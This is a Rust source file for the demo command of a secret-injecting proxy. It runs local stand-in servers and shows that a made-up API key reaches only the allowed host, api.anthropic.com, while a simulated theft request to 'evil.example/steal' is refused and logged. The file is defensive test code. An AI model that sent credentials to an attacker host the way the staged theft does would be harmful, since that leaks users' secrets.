//! `demo`: the whole thing in a few seconds. Everything it claims, it has seen happen.

mod client;
mod origin;

use std::fs;
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{Child, Command, ExitCode, Stdio};
use std::time::{Duration, Instant};

use actors::folder::Folder;
use serde_json::Value;
use tempfile::TempDir;
use tokio::signal::unix::{SignalKind, signal};

use self::client::{Answer, get};
use self::origin::{DemoCa, Origin};
use super::ask::ask;
use crate::failure::Failure;

/// Something that the demo needs did not work, or did not happen.
type Broken = Box<dyn std::error::Error + Send + Sync>;

const LISTED: &str = "api.anthropic.com";
const UNLISTED: &str = "evil.example";
const PLACEHOLDER: &str = "{{ANTHROPIC_API_KEY}}";
/// Made up.
const VALUE: &str = "sk-ant-made-up-for-the-demo";
const START: Duration = Duration::from_secs(8);

pub(crate) fn main() -> Result<ExitCode, Failure> {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().map_err(Failure::not_well)?;
    let shown = runtime.block_on(async {
        tokio::select! {
            shown = show() => shown,
            stopped = stopped() => stopped,
        }
    });
    shown.map_err(|broken| Failure::not_well(format!("the demo did not work: {broken}")))?;
    Ok(ExitCode::SUCCESS)
}

/// Ends the demo when it is told to, so that it takes the proxy and the folder along.
async fn stopped() -> Result<(), Broken> {
    let (mut interrupt, mut terminate) = (signal(SignalKind::interrupt())?, signal(SignalKind::terminate())?);
    tokio::select! {
        _ = interrupt.recv() => {}
        _ = terminate.recv() => {}
    }
    Err("it was stopped".into())
}

async fn show() -> Result<(), Broken> {
    let ca = DemoCa::new()?;
    let listed = Origin::start(&ca, LISTED).await?;
    let unlisted = Origin::start(&ca, UNLISTED).await?;
    let proxy = Proxy::start(&ca, &listed, &unlisted).await?;
    let ca_pem = fs::read(proxy.folder.authority().join("ca-cert.pem"))?;
    let send = |host: &'static str, path: &'static str| get(&proxy.address, &ca_pem, host, path, PLACEHOLDER);

    say!("A server for {LISTED} and one for {UNLISTED} run on this machine, and the proxy before them.");
    say!("The secrets file says:\n");
    say!("    ANTHROPIC_API_KEY={VALUE}\n    ANTHROPIC_API_KEY_HOSTS={LISTED}\n");

    let allowed = send(LISTED, "/v1/messages").await?;
    say!("1. A client sent         GET https://{LISTED}/v1/messages  x-api-key: {PLACEHOLDER}");
    for line in listed.received.all() {
        say!("   the server received   {line}");
    }
    say!("   the client got        {}\n", allowed.status);

    let theft = send(UNLISTED, "/steal").await?;
    say!("2. A theft was tried     GET https://{UNLISTED}/steal  x-api-key: {PLACEHOLDER}");
    say!("   the server received   {}", shown_or_nothing(&unlisted.received.all()));
    say!("   the client got        {}\n", theft.status);
    theft.body.lines().for_each(|line| say!("       {line}"));

    let records = records(&proxy.folder)?;
    say!("\n3. The audit file has one line for each:\n");
    records.iter().for_each(|(line, _)| say!("   {line}"));
    verify(&listed, &unlisted, &allowed, &theft, &records)?;
    say!("\nThe value reached {LISTED} and nothing else. Next: secret-proxy run --help");
    Ok(())
}

fn shown_or_nothing(lines: &[String]) -> String {
    if lines.is_empty() { "nothing".to_owned() } else { lines.join(", ") }
}

/// The lines of the audit file that are about requests.
fn records(folder: &Folder) -> Result<Vec<(String, Value)>, Broken> {
    let mut records = Vec::new();
    for line in fs::read_to_string(folder.audit())?.lines() {
        let record: Value = serde_json::from_str(line)?;
        if record.get("host").is_some() {
            records.push((line.to_owned(), record));
        }
    }
    Ok(records)
}

/// The demo has worked only if all of this is so.
fn verify(
    listed: &Origin,
    unlisted: &Origin,
    allowed: &Answer,
    theft: &Answer,
    records: &[(String, Value)],
) -> Result<(), Broken> {
    let require = |held: bool, what: &str| if held { Ok(()) } else { Err(Broken::from(what.to_owned())) };
    let received = listed.received.all();
    require(received.len() == 1 && received.iter().all(|line| line.contains(VALUE)), "the value did not arrive")?;
    require(unlisted.received.all().is_empty(), "the unlisted server was reached")?;
    require(allowed.status.starts_with("200"), "the allowed request failed")?;
    require(theft.status.starts_with("403"), "the theft was not refused")?;
    require(!allowed.body.contains(VALUE) && !theft.body.contains(VALUE), "the client saw the value")?;
    let blocked: Vec<&Value> = records.iter().map(|(_, record)| &record["blocked"]).collect();
    require(blocked == [&Value::Bool(false), &Value::Bool(true)], "the audit lines are not as they should be")?;
    let id = records.last().and_then(|(_, record)| record["id"].as_str());
    require(id == theft.id.as_deref(), "the refusal's id is not the record's")?;
    require(!records.iter().any(|(line, _)| line.contains(VALUE)), "the audit file holds the value")
}

/// A real `secret-proxy run` in a folder of its own. Ends, and takes its folder along, when dropped.
struct Proxy {
    child: Child,
    address: String,
    folder: Folder,
    _home: TempDir,
}

impl Proxy {
    async fn start(ca: &DemoCa, listed: &Origin, unlisted: &Origin) -> Result<Self, Broken> {
        let home = tempfile::Builder::new().prefix("secret-proxy-demo-").tempdir()?;
        let secrets = format!("ANTHROPIC_API_KEY={VALUE}\nANTHROPIC_API_KEY_HOSTS={LISTED}\n");
        fs::write(home.path().join("secrets.env"), secrets)?;
        fs::write(home.path().join("demo-ca.pem"), ca.pem())?;
        let resolve = [(LISTED, listed.port), (UNLISTED, unlisted.port)]
            .map(|(name, port)| format!("{name}:443:127.0.0.1:{port}"));
        let child = run_command(home.path(), &resolve.join(","))?.spawn()?;
        let folder = Folder::at(home.path());
        let mut proxy = Self { child, address: String::new(), folder, _home: home };
        proxy.address = proxy.wait().await?;
        Ok(proxy)
    }

    /// Waits until it listens.
    async fn wait(&mut self) -> Result<String, Broken> {
        let begun = Instant::now();
        while begun.elapsed() < START {
            if let Some(code) = self.child.try_wait()? {
                return Err(format!("the proxy ended at once ({code})").into());
            }
            let report = ask(&self.folder, "status").unwrap_or_default();
            if let Some(address) = report["listeners"][0]["address"].as_str() {
                return Ok(address.to_owned());
            }
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        Err("the proxy did not start in time".into())
    }
}

fn run_command(home: &Path, resolve: &str) -> Result<Command, Broken> {
    let mut command = Command::new(std::env::current_exe()?);
    command.arg0("secret-proxy").arg("run").env_clear().stdin(Stdio::null()).stdout(Stdio::null());
    command.arg("--dir").arg(home).args(["--listen", "127.0.0.1:0", "--allow-net", "127.0.0.1/32"]);
    command.arg("--upstream-ca").arg(home.join("demo-ca.pem")).args(["--resolve", resolve]);
    Ok(command)
}

impl Drop for Proxy {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}
